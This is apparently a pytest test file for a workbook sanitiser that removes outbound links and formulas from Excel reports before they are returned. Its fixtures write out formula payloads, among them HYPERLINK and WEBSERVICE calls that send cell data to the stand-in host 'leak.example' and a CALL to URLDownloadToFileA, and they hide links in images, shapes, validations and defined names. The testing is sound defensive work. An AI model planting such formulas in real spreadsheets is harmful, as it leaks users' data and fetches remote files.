"""What leads out of a workbook does not come back with it: links, and formulas that make or follow one."""

import re
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
import xlsxwriter

from district_reports.workbook.formulas import reaches_out
from district_reports.workbook.guard.guard import guard
from district_reports.workbook.marking import inert as taking_out
from district_reports.workbook.marking.marked import CannotMark, write_marked
from guarded_files import rewritten
from marked_book import DATA, answer, faults, finding, parts, picture, rich

LEAK = "leak.example"
URL = f"http://{LEAK}/?"
CLICK = f'HYPERLINK("{URL}"&A4,"核对")'
REACHING = {
    "click": (f"={CLICK}", "核对"),
    "small letters": (f'=hyperlink("{URL}"&A5)', "核对"),
    "a space": (f'=HYPERLINK ("{URL}"&A5)', "核对"),
    "fetched in small letters": (f'=_xlfn.webservice("{URL}"&A6)', "x"),
    "parsed": ('=_xlfn.FILTERXML("<a>1</a>","//a")', 1),
    "called": (f'=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{URL}","x",0,0)', 0),
    "registered": ('=REGISTER.ID("kernel32","Beep")', 0),
    "a cube": (f'=CUBEVALUE("{LEAK}","[Measures].[n]")', 7),
    "handed on": ("=_xlfn.MAP(A4:A6,_xleta.webservice)", "x"),
    "an add-in's": (f'=_xll.Send("{URL}"&A7)', "x"),
    "Google's": (f'=IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""{URL}"",A1)"),"x")', "x"),
    "behind a sheet's quote": (f'=\'a"b\'!A1&{CLICK}&""', "核对"),
    "a path": (f"='http://{LEAK}/[b.xlsx]S'!A1", 5),
    "a name": ("=一键核对", "核对"),
    "a name of a name": ("=UPPER(二键核对)", "核对"),
}
HARMLESS = {
    "sum": ("=SUM(C4:C30)", 351.0),
    "text": (f'="{CLICK[:9]}("&A4', "HYPERLINK(学生4"),
    "another sheet": ("='封面'!B1", "x"),
    "months": ("=SUM('1月'!A1:'1月'!A2)", 0),
    "imaginary": ("=IMAGINARY(A1)", 0),
}
FOUND = (finding("A4"), finding("B5"), finding("H40"))


def leading_out(path: Path) -> Path:
    """A report in which everything leads out that can."""
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as book:
        book.add_worksheet("封面").write_row(0, 0, ["报表代码", "x"])
        sheet = book.add_worksheet(DATA)
        sheet.write_row(2, 0, ["姓名", "学籍号", "人数"])
        for row in range(3, 30):
            sheet.write_row(row, 0, [f"学生{row + 1}", f"G{row}", row])
        book.define_name("一键核对", f"={CLICK}")
        book.define_name("二键核对", "=一键核对&1")
        book.define_name("人数", f"='{DATA}'!$C$4:$C$30")
        for row, (formula, value) in enumerate((*REACHING.values(), *HARMLESS.values()), 3):
            sheet.write_formula(row, 4, formula, None, value)
        sheet.write_array_formula("F4:F5", f"{{={CLICK}}}", None, "核对")
        sheet.write_dynamic_array_formula("G4", f"={CLICK}", None, "核对")
        sheet.write_url("H4", f"{URL}h4", string="网址")
        sheet.write_url("H5", f"mailto:x@{LEAK}", string="信箱")
        sheet.write_url("H6", "internal:'封面'!A1", string="封面")
        sheet.write_string("H7", "=HYPERLINK(A1)")
        sheet.write_comment("A4", "自己的批注")
        sheet.conditional_format("C4:C30", {"type": "formula", "criteria": f'=_xlfn.webservice("{URL}"&A4)="x"'})
        sheet.conditional_format("C4:C30", {"type": "data_bar", "data_bar_2010": True})
        sheet.data_validation("B4:B30", {"validate": "custom", "value": f'=rtd("{LEAK}",,B4)'})
        sheet.data_validation("I4", {"validate": "list", "source": ["是", "否"]})
        sheet.add_table(
            "K3:L5", {"columns": [{"header": "a"}, {"header": "b", "formula": f'=HYPERLINK("{URL}"&[@a])'}]}
        )
        sheet.insert_image("N3", "p.png", {"image_data": picture(), "url": f"{URL}image"})
        sheet.insert_textbox("N10", "点这里", {"url": f"{URL}box"})
        other = book.add_worksheet("在校人数")
        other.write_url("A1", f"{URL}other")
        other.write_string("A1", "学校")
    return path


@pytest.fixture(scope="module")
def original(tmp_path_factory) -> Path:
    plain = leading_out(tmp_path_factory.mktemp("original") / "book.xlsx")

    def change(all_parts: dict[str, bytes]) -> None:
        name = "xl/drawings/vmlDrawing1.vml"
        all_parts[name] = all_parts[name].replace(b"<v:shape ", f'<v:shape href="{URL}shape" '.encode(), 1)

    return rewritten(plain, change)


@pytest.fixture(scope="module")
def copy(original, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("copy") / "marked.xlsx"
    write_marked(original, answer(*FOUND), path)
    return path


def said(path: Path) -> dict[str, bytes]:
    """The parts in which something leads out."""
    return {name: content for name, content in parts(path).items() if LEAK.encode() in content}


def test_nothing_that_leads_out_comes_back(original, copy):
    assert guard(original) == [], "all of this is let in"
    where = {re.sub(r"\d", "", name) for name in said(original)}
    assert where >= {
        *("xl/workbook.xml", "xl/worksheets/sheet.xml", "xl/worksheets/_rels/sheet.xml.rels", "xl/tables/table.xml"),
        *("xl/drawings/_rels/drawing.xml.rels", "xl/drawings/vmlDrawing.vml"),
    }
    assert said(copy).keys() == {"xl/sharedStrings.xml"}, "the text of a cell"
    assert b"External" not in b"".join(content for name, content in parts(copy).items() if name.endswith(".rels"))
    drawing = parts(copy)["xl/drawings/drawing1.xml"]
    assert b"hlinkClick" not in drawing
    assert [drawing.count(one) for one in (b"<xdr:pic>", b"<xdr:sp ")] == [1, 1]
    assert guard(copy) == faults(copy) == []


def test_a_formula_gives_way_to_its_result_and_all_else_stays(copy):
    values, formulas = (openpyxl.load_workbook(copy, data_only=only)[DATA] for only in (True, False))
    for row, (name, (formula, value)) in enumerate((REACHING | HARMLESS).items(), 4):
        assert values.cell(row, 5).value == value, name
        assert (formulas.cell(row, 5).value == formula) is (name in HARMLESS), name
    assert [values[cell].value for cell in ("F4", "G4", "H4", "H5", "H7")] == [
        *("核对", "核对", "网址", "信箱", "=HYPERLINK(A1)")
    ]
    assert formulas["H7"].data_type == "s"
    assert [formulas[cell].value for cell in ("F4", "G4")] == ["核对", "核对"]
    assert [formulas[cell].hyperlink and formulas[cell].hyperlink.location for cell in ("H4", "H5", "H6")] == [
        *(None, None, "'封面'!A1")
    ]
    kept = [(one.sqref, one.type, one.formula1) for one in formulas.data_validations.dataValidation]
    assert [(str(ref), *more) for ref, *more in kept] == [("B4:B30", "custom", "#REF!"), ("I4", "list", '"是,否"')]
    names = openpyxl.load_workbook(copy).defined_names
    assert {name: names[name].attr_text for name in ("一键核对", "二键核对", "人数")} == {
        "一键核对": "#REF!",
        "二键核对": "#REF!",
        "人数": f"'{DATA}'!$C$4:$C$30",
    }


def table(sheet) -> None:
    sheet.add_table("A9:B12", {"columns": [{"header": "a"}, {"header": "b", "formula": f"={CLICK}"}]})


def far_down(sheet) -> None:
    """In a sheet that is inflated in several blocks."""
    for row in range(4, 20_000):
        sheet.write_row(row, 2, range(row, row + 5))
    sheet.write_formula(20_000, 0, f"={'1+' * 3000}{CLICK}", None, "x")


ALONE = {
    "cell": lambda sheet: sheet.write_formula("D9", f"={CLICK}", None, "x"),
    "choices": lambda sheet: sheet.data_validation("D9", {"validate": "custom", "value": f"={CLICK}"}),
    "format": lambda sheet: sheet.conditional_format("D9", {"type": "formula", "criteria": f"={CLICK}"}),
    "bar": lambda sheet: sheet.conditional_format(
        "D9:D12", {"type": "data_bar", "data_bar_2010": True, "min_type": "formula", "min_value": f"={CLICK}"}
    ),
    "table": table,
    "link": lambda sheet: sheet.write_url("D9", URL, string="x"),
    "far down": far_down,
}


@pytest.mark.parametrize("place", ALONE)
def test_each_place_by_itself(tmp_path, place):
    with xlsxwriter.Workbook(tmp_path / "book.xlsx") as book:
        sheet = book.add_worksheet(DATA)
        sheet.write_row(2, 0, ["姓名", "学籍号", "人数"])
        ALONE[place](sheet)
    write_marked(tmp_path / "book.xlsx", answer(*FOUND), tmp_path / "marked.xlsx")
    assert said(tmp_path / "book.xlsx")
    assert said(tmp_path / "marked.xlsx") == {}
    assert faults(tmp_path / "marked.xlsx") == []


def test_what_has_no_result_is_an_empty_cell(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title, sheet["A3"], sheet["B4"], sheet["B5"] = DATA, "姓名", f"={CLICK}", "=1+1"
    sheet["A4"] = "张三"
    sheet["A4"].hyperlink = URL
    book.save(tmp_path / "book.xlsx")
    write_marked(tmp_path / "book.xlsx", answer(*FOUND), tmp_path / "marked.xlsx")
    marked = openpyxl.load_workbook(tmp_path / "marked.xlsx")[DATA]
    assert [marked[cell].value for cell in ("A4", "B4", "B5")] == ["张三", None, "=1+1"]
    assert marked["A4"].hyperlink is None
    assert said(tmp_path / "marked.xlsx") == {}


def test_formulas_that_cells_share(tmp_path):
    def change(all_parts: dict[str, bytes]) -> None:
        name = "xl/worksheets/sheet2.xml"
        own = f'<f t="shared" ref="J4:J6" si="3">{escape(CLICK)}</f>'
        for row, formula in ((4, own), (5, '<f t="shared" si="3"/>'), (6, '<f si="3" t="shared"></f>')):
            cell = f'<c r="J{row}" t="str">{formula}<v>核对</v></c></row>'
            before, after = all_parts[name].split(f'<row r="{row + 1}"'.encode(), 1)
            all_parts[name] = before.removesuffix(b"</row>") + cell.encode() + f'<row r="{row + 1}"'.encode() + after

    book = rewritten(rich(tmp_path / "book.xlsx"), change)
    write_marked(book, answer(), tmp_path / "marked.xlsx")
    assert said(book)
    assert said(tmp_path / "marked.xlsx") == {}
    xml = parts(tmp_path / "marked.xlsx")["xl/worksheets/sheet2.xml"].decode()
    assert re.findall(r'<c r="J\d" t="str">(.*?)</c>', xml) == ["<v>核对</v>"] * 3


def test_a_workbook_without_any_of_it_is_not_written_anew(tmp_path, monkeypatch):
    monkeypatch.setattr(taking_out, "Writer", None)
    write_marked(rich(tmp_path / "book.xlsx"), answer(*FOUND), tmp_path / "marked.xlsx")


@pytest.mark.parametrize("kept", [r"_FORMULA = ", r"_ELSEWHERE = ", r"_LINKS = "])
def test_the_check_sees_what_was_left(original, tmp_path, monkeypatch, kept):
    monkeypatch.setattr(taking_out, kept.split()[0], re.compile(rb"(?!)()()()()"))
    with pytest.raises(CannotMark):
        write_marked(original, answer(), tmp_path / "marked.xlsx")


@pytest.mark.parametrize(
    "formula", [formula for formula, _ in REACHING.values() if "核对" not in formula or "(" in formula]
)
def test_what_reaches_out(formula):
    assert reaches_out(formula[1:], {"二键核对"})


@pytest.mark.parametrize(
    "formula", [*(formula for formula, _ in HARMLESS.values()), "=表1[1]*在校!B2", "=一键&RTDS!A1"]
)
def test_what_does_not(formula):
    assert not reaches_out(formula[1:], {"二键核对"})
